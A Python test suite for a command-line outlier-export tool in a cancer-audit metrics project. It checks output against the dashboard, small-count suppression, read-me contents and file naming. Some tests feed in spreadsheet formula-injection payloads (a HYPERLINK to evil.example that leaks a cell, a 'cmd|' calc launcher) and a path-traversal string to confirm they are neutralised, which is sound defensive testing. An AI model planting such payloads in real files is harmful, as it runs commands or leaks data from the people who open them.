"""``audit-metrics outliers``: the dashboard's outlier-list download from the command line.

The oracle for "the same content" is the dashboard itself: an AppTest drives the 'Outliers & export'
view with the same filters, and the export object the view builds (recorded as the view calls
``sharing.build_outlier_export``) must give the very bytes the CLI wrote (CSV), and the same cells
(XLSX; only the two time stamps in the read-me may differ).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from audit_metrics import export, sharing, views
from audit_metrics.catalogue import load_catalogue
from audit_metrics.cli import main
from audit_metrics.pipeline import run_audit

APP = str(Path(__file__).resolve().parents[1] / "app.py")
TIME_ITEMS = {"File created (UTC)", "Results computed (UTC)"}
DERIVED = ("expected", "value", "adjusted_value", "crude_value", "z", "p_value", "lower_alert", "upper_alert",
           "lower_alarm", "upper_alarm")


@pytest.fixture(scope="module")
def sample(catalogue_path: Path):
    loaded = load_catalogue(catalogue_path)
    return loaded, run_audit(loaded)


@pytest.fixture(scope="module")
def heading(sample) -> dict[str, str]:
    """Each results column's heading in the files (the full list's columns cover every one)."""
    loaded, run = sample
    return sharing.result_headers(sharing.build_outlier_export(run, loaded, sharing.OutlierFilters()).exported.columns)


def _cells(path_or_bytes: Path | bytes, sheet: str) -> list[tuple]:
    source = path_or_bytes if isinstance(path_or_bytes, Path) else io.BytesIO(path_or_bytes)
    return list(openpyxl.load_workbook(source)[sheet].iter_rows(values_only=True))


def _readme(path_or_bytes: Path | bytes) -> dict[tuple[str, str], object]:
    return {(r[0], r[1]): r[2] for r in _cells(path_or_bytes, export.README_SHEET)[1:]}


def _without_times(readme: dict[tuple[str, str], object]) -> dict[tuple[str, str], object]:
    return {k: v for k, v in readme.items() if k[1] not in TIME_ITEMS}


def _recorder(monkeypatch: pytest.MonkeyPatch) -> list[sharing.OutlierExport]:
    """Record every export the dashboard view builds (it calls the module attribute at run time)."""
    calls: list[sharing.OutlierExport] = []
    original = sharing.build_outlier_export

    def recording(*args, **kwargs) -> sharing.OutlierExport:
        out = original(*args, **kwargs)
        calls.append(out)
        return out

    monkeypatch.setattr(sharing, "build_outlier_export", recording)
    return calls


# Each case: the dashboard's widget values, and the same filters as CLI options.
CASES = {
    "alliance_site_worse": ({"out_alliance": ["Stonebridge Cancer Alliance", "Ferncombe Cancer Alliance"],
                             "out_sites": ["Bowel"], "out_directions": ["worse", "better"]},
                            ["--alliance", "Stonebridge Cancer Alliance", "--alliance", "Ferncombe Cancer Alliance",
                             "--site", "Bowel", "--direction", "worse", "--direction", "better"]),
    "period_alert": ({"out_period": "2022/23", "out_levels": ["alert"]},
                     ["--period", "2022/23", "--level", "alert"]),
    "indicator": ({"out_indicators": ["lung_cns", "bowel_emergency_dx"]},
                  ["--indicator", "lung_cns", "--indicator", "bowel_emergency_dx"]),
    "everything": ({}, []),
}


@pytest.mark.parametrize("case", list(CASES))
def test_cli_file_is_the_dashboard_download(case: str, catalogue_path: Path, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    widgets, options = CASES[case]
    calls = _recorder(monkeypatch)
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params["view"] = "Outliers & export"
    at.run()
    assert not at.exception
    for key, value in widgets.items():
        widget = at.selectbox(key=key) if key == "out_period" else at.multiselect(key=key)
        widget.set_value(value).run()
        assert not at.exception
    shown = calls[-1]  # what the view lists and offers for download with these filters
    assert len(at.dataframe[0].value) == shown.table.height > 0
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"outliers.{suffix}"
        assert main(["outliers", str(catalogue_path), *options, "--out", str(out), "--quiet"]) == 0
        if suffix == "csv":
            assert out.read_bytes() == shown.csv_bytes()
        else:
            dashboard = shown.excel_bytes()
            assert _cells(out, "results") == _cells(dashboard, "results")
            assert _without_times(_readme(out)) == _without_times(_readme(dashboard))
            assert openpyxl.load_workbook(out).sheetnames == [export.README_SHEET, "results"]
    if case == "alliance_site_worse":  # the case chosen to hold suppressed small counts
        assert "*" in shown.table["observed"].to_list()


def test_csv_and_xlsx_hold_the_same_rows_with_counts_as_numbers(sample, heading, tmp_path: Path) -> None:
    loaded, run = sample
    shared = sharing.build_outlier_export(run, loaded, sharing.OutlierFilters())
    rows = list(csv.DictReader(io.StringIO(shared.csv_bytes().decode("utf-8"), newline="")))
    cells = _cells(shared.excel_bytes(), "results")
    header, body = list(cells[0]), cells[1:]
    assert len(rows) == len(body) == shared.table.height > 100
    for name in ("observed", "denominator"):
        j = header.index(heading[name])
        for row, cell in zip(rows, body, strict=True):
            if row[heading[name]] == "*":
                assert cell[j] == "*"
            else:  # a number in the workbook, equal to the CSV's count
                assert isinstance(cell[j], int | float) and not isinstance(cell[j], bool)
                assert cell[j] == int(row[heading[name]])
    # the unsuppressed counts are the results' own counts
    truth = views.outlier_list(views.pooled(run))
    counts = {(r["indicator_id"], r["unit_code"]): r["observed"] for r in truth.iter_rows(named=True)}
    i_ind, i_unit, i_obs = (header.index(heading[c]) for c in ("indicator_id", "unit_code", "observed"))
    for cell in body:
        if cell[i_obs] != "*":
            assert cell[i_obs] == counts[(cell[i_ind], cell[i_unit])]


@pytest.mark.parametrize("options", [[], ["--period", "2022/23"], ["--period", "2021/22"],
                                     ["--level", "alert", "--direction", "better"]])
def test_suppression_holds_in_every_cli_export(options: list[str], catalogue_path: Path, tmp_path: Path,
                                               sample, heading) -> None:
    """No count in the suppressed range is readable, every value that would give one back is blank, and a
    result whose flag alone would pin its count is not listed (checked against export.status_reveals_count
    on the unsuppressed list)."""
    loaded, run = sample
    rule = loaded.catalogue.defaults.suppression
    small = {str(i) for i in range(rule.min_count, rule.max_count + 1)}
    out_csv, out_xlsx = tmp_path / "o.csv", tmp_path / "o.xlsx"
    for out in (out_csv, out_xlsx):
        assert main(["outliers", str(catalogue_path), *options, "--out", str(out), "--quiet"]) == 0
    frame = pl.read_csv(out_csv, infer_schema=False).rename({h: c for c, h in heading.items()}, strict=False)
    cells = _cells(out_xlsx, "results")
    header = list(cells[0])
    for name in ("observed", "denominator"):
        assert not frame[name].is_in(list(small)).any()
        assert not {str(c[header.index(heading[name])]).removesuffix(".0") for c in cells[1:]} & small
    hidden = frame.filter(pl.col("observed") == rule.symbol)
    for column in DERIVED:
        assert hidden[column].null_count() == hidden.height, column
    period = options[options.index("--period") + 1] if "--period" in options else None
    levels = [options[i + 1] for i, o in enumerate(options) if o == "--level"] or ["alarm", "alert"]
    directions = [options[i + 1] for i, o in enumerate(options) if o == "--direction"] or list(sharing.DIRECTIONS)
    flagged = views.outlier_list(sharing.period_table(run, period), levels=levels, directions=directions)
    pins = flagged.filter(export.status_reveals_count(flagged, rule))
    listed = set(zip(frame["indicator_id"], frame["unit_code"], strict=True))
    assert not listed & set(zip(pins["indicator_id"], pins["unit_code"], strict=True))
    assert frame.height == flagged.height - pins.height
    readme = _readme(out_xlsx)
    assert readme[("Suppression", "Flagged results not listed (the flag alone would reveal a small count)")] \
        == pins.height


def test_readme_sheet_rows(sample, heading, catalogue_path: Path, tmp_path: Path) -> None:
    loaded, run = sample
    out = tmp_path / "o.xlsx"
    assert main(["outliers", str(catalogue_path), "--site", "Bowel", "--out", str(out), "--quiet"]) == 0
    readme = _readme(out)
    rule = loaded.catalogue.defaults.suppression
    assert readme[("About", "Synthetic data")] == sharing.SYNTHETIC_STATEMENT  # the bundled sample is in use
    assert readme[("Filters", "Tumour site")] == "Bowel" and readme[("Filters", "Cancer Alliance")] == "all"
    assert f"Counts of {rule.min_count} to {rule.max_count} are shown as '{rule.symbol}'" \
        in readme[("Suppression", "Rule")]
    assert readme[("Provenance", "Catalogue SHA-256")] == loaded.digest == run.catalogue_digest
    assert readme[("Provenance", "Catalogue version")] == loaded.catalogue.version
    assert readme[("Provenance", "Software")].startswith("audit_metrics ")
    assert readme[("Provenance", "Indicator catalogue")] == "indicators.yaml"  # a name, no server path
    for name, digest in run.data_digests.items():
        assert readme[(f"Dataset {name}", "SHA-256")] == digest
        assert readme[(f"Dataset {name}", "File")] == loaded.catalogue.datasets[name].path
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", readme[(f"Dataset {name}", "File last modified (UTC)")])
        acc = run.datasets[name]
        assert (readme[(f"Dataset {name}", "Rows read")], readme[(f"Dataset {name}", "Rows used")],
                readme[(f"Dataset {name}", "Rows excluded")]) == (acc.rows_read, acc.rows_used, acc.rows_excluded)
        assert isinstance(readme[(f"Dataset {name}", "Rows read")], int)  # a number, not text
    rows = len(_cells(out, "results")) - 1
    assert readme[("About", "Rows in 'results'")] == rows > 0
    # every column of the results sheet is explained, in the sheet's order
    header = list(_cells(out, "results")[0])
    explained = [k[1] for k in readme if k[0] == "Columns of 'results'"]
    assert explained == header
    assert all(readme[("Columns of 'results'", c)] for c in header)
    assert readme[("Columns of 'results'", "Stage recorded (share 0-1)")] == (
        "share of the unit's patients with stage recorded (0-1) (results contract column: complete_stage)")
    # methods, per indicator in the file: limit method, estimator, whether applied (and why), national value
    listed = {r[0] for r in _cells(out, "results")[1:]}
    bowel = [i for i, r in run.results.items() if r.spec.tumour_site == "Bowel"]
    assert listed and listed <= set(bowel)
    for ind in listed:
        result = run.results[ind]
        od = result.overdispersion[("trust", result.pooled_period)]
        section = f"Methods: {ind}"
        assert readme[(section, "period")] == result.pooled_period
        assert readme[(section, "limit_method")].startswith("exact binomial limits")
        assert readme[(section, "overdispersion_estimator")] == "robust maximum likelihood"
        assert readme[(section, "overdispersion_applied")] is od.applied
        assert readme[(section, "overdispersion_reason")] == od.reason
        assert readme[(section, "limits")] == "95% and 99.8% (two-sided)"
        national = result.table.filter(pl.col("level") == "national", pl.col("period") == result.pooled_period)
        assert readme[(section, "national_value")] == pytest.approx(
            national["observed"][0] / national["denominator"][0], rel=1e-12)  # 0-1, as the results sheet


def test_readme_for_another_period_uses_that_periods_method(sample) -> None:
    loaded, run = sample
    shared = sharing.build_outlier_export(run, loaded, sharing.OutlierFilters(period="2022/23"))
    methods = shared.readme.methods.row(0, named=True)
    result = run.results["bowel_emergency_dx"]
    od = result.overdispersion[("trust", "2022/23")]
    assert (methods["indicator_id"], methods["period"]) == ("bowel_emergency_dx", "2022/23")
    assert (methods["phi"], methods["tau2"], methods["overdispersion_applied"]) == (od.phi, od.tau2, od.applied)
    assert methods["national_value"] == pytest.approx(1827 / 11869, rel=1e-12)  # the 2022/23 national rate, 0-1


def test_no_synthetic_statement_for_other_data(project_copy: Path, tmp_path: Path) -> None:
    out = tmp_path / "o.xlsx"
    assert main(["outliers", str(project_copy / "indicators.yaml"), "--out", str(out), "--quiet"]) == 0
    readme = _readme(out)
    assert ("About", "Synthetic data") not in readme
    assert readme[("Dataset patients", "File")] == "sample_data/patients.parquet"  # relative: no server path
    assert str(tmp_path) not in " ".join(str(v) for v in readme.values())


def test_file_names_say_what_the_file_holds(sample) -> None:
    loaded, run = sample
    on = datetime(2026, 12, 2, 9, 30, tzinfo=UTC)

    def name(**filters) -> str:
        shared = sharing.build_outlier_export(run, loaded, sharing.OutlierFilters(**filters), built_at=on)
        return shared.file_name("csv")

    # the audit the indicators share (else how many audits: #period1), the grouping, the indicators, the period
    assert name() == "outliers_10-audits_all-cancer-alliances_all-indicators_headline-periods_2026-12-02.csv"
    assert (name(alliances=("Fellside Cancer Alliance",), indicators=("lung_cns",))
            == "outliers_National-Lung-Cancer-Audit_Fellside-Cancer-Alliance_lung-cns_2021-22-to-2023-24_2026-12-02.csv")
    assert (name(alliances=("Fellside Cancer Alliance", "Marshby Cancer Alliance"), tumour_sites=("Lung",))
            == "outliers_National-Lung-Cancer-Audit_2-cancer-alliances_Lung_2021-22-to-2023-24_2026-12-02.csv")
    assert name(period="2022/23") == "outliers_10-audits_all-cancer-alliances_all-indicators_2022-23_2026-12-02.csv"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example")', "../../etc/passwd", "<img src=x>",
                                  "a\\b/c:d*e?f\"g|h", "\t=1+1", "Hôpital Sainte-Anne", "", "***"])
def test_download_names_are_safe(text: str) -> None:
    name = export.download_name("outliers", text, "lung", on=datetime(2026, 1, 5, tzinfo=UTC), suffix="csv")
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]*\.csv", name), name
    assert name.endswith("_lung_2026-01-05.csv") and len(name) < 120
    assert export.slug("Hôpital Sainte-Anne") == "Hopital-Sainte-Anne"


def test_hostile_names_neutralised_in_cli_outliers(project_copy: Path) -> None:
    trusts = project_copy / "sample_data" / "trusts.csv"
    units = pl.read_csv(trusts, infer_schema=False)
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    alliance = "=cmd|' /C calc'!A0"
    names = units["trust_name"].to_list()
    names[: len(hostile)] = hostile
    groups = units["cancer_alliance"].to_list()
    first = groups[0]
    units = units.with_columns(pl.Series("trust_name", names),
                               pl.Series("cancer_alliance", [alliance if g == first else g for g in groups]))
    units.write_csv(trusts)
    out_csv, out_xlsx = project_copy / "o.csv", project_copy / "o.xlsx"
    for out in (out_csv, out_xlsx):
        assert main(["outliers", str(project_copy / "indicators.yaml"), "--alliance", alliance,
                     "--out", str(out), "--quiet"]) == 0
    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8"), newline="")))
    assert len(rows) > 1
    text_cells = [c for row in rows for c in row if c and not re.fullmatch(r"-?[0-9.e+-]+", c)]
    assert not [c for c in text_cells if c.startswith(export.FORMULA_TRIGGERS)]
    assert "'" + alliance in {c for row in rows for c in row}
    wb = openpyxl.load_workbook(out_xlsx)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in {"f", "e"} and cell.hyperlink is None, cell.coordinate
    assert _readme(out_xlsx)[("Filters", "Cancer Alliance")] == alliance  # a string cell, as it is (#period1)


def test_cli_outliers_errors_are_clear(catalogue_path: Path, tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["outliers", str(catalogue_path), "--out", str(tmp_path / "o.parquet")]) == 1
    assert "use a .csv or .xlsx file name" in capsys.readouterr().err
    assert main(["outliers", str(catalogue_path), "--alliance", "Nowhere", "--out", str(tmp_path / "o.csv")]) == 1
    err = capsys.readouterr().err
    assert "--alliance 'Nowhere': no such Cancer Alliance" in err and "Fellside Cancer Alliance" in err
    assert main(["outliers", str(catalogue_path), "--period", "1999", "--out", str(tmp_path / "o.csv")]) == 1
    assert "no indicator reports the period '1999'" in capsys.readouterr().err
    assert not (tmp_path / "o.csv").exists()


def test_files_use_the_on_screen_headings(sample, heading, catalogue_path: Path, tmp_path: Path) -> None:
    """#12 build 3/4: the CSV and the workbook's 'results' sheet head their columns in plain English, as the
    on-screen outlier table does (the same words, the scale said where the file keeps 0-1 and the screen %),
    and the read-me explains each column under that heading."""
    from audit_metrics.ui.outliers import OUTLIER_COLUMNS

    loaded, run = sample
    out_csv, out_xlsx = tmp_path / "o.csv", tmp_path / "o.xlsx"
    for out in (out_csv, out_xlsx):
        assert main(["outliers", str(catalogue_path), "--out", str(out), "--quiet"]) == 0
    header = next(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
    assert header == list(_cells(out_xlsx, "results")[0]) == list(heading.values())
    assert len(set(header)) == len(header)
    assert not {"unit_name", "adjusted_value", "observed", "denominator", "status_label", "p_value"} & set(header)
    for column, shown in OUTLIER_COLUMNS.items():  # the on-screen table's words
        if column in ("value", "adjusted_value"):  # % on screen, 0-1 in the files: said in each heading
            assert "%" in shown and "0-1" in heading[column]
        else:
            assert heading[column] == shown, column
    for words in ("Trust", "Events", "Patients", "Result", "Cancer Alliance", "Risk-adjusted rate (0-1)"):
        assert words in header
    readme = _readme(out_xlsx)
    assert [k[1] for k in readme if k[0] == "Columns of 'results'"] == header
    assert readme[("Columns of 'results'", "Events")] == (
        "events (numerator); the suppression symbol where small (results contract column: observed)")
    # the files' rows are the results' own values under those headings
    frame = pl.read_csv(out_csv, infer_schema=False)
    listed = sharing.build_outlier_export(run, loaded, sharing.OutlierFilters()).table
    assert frame["Trust"].to_list() == listed["unit_name"].to_list()
    assert frame["Result"].to_list() == listed["status_label"].to_list()
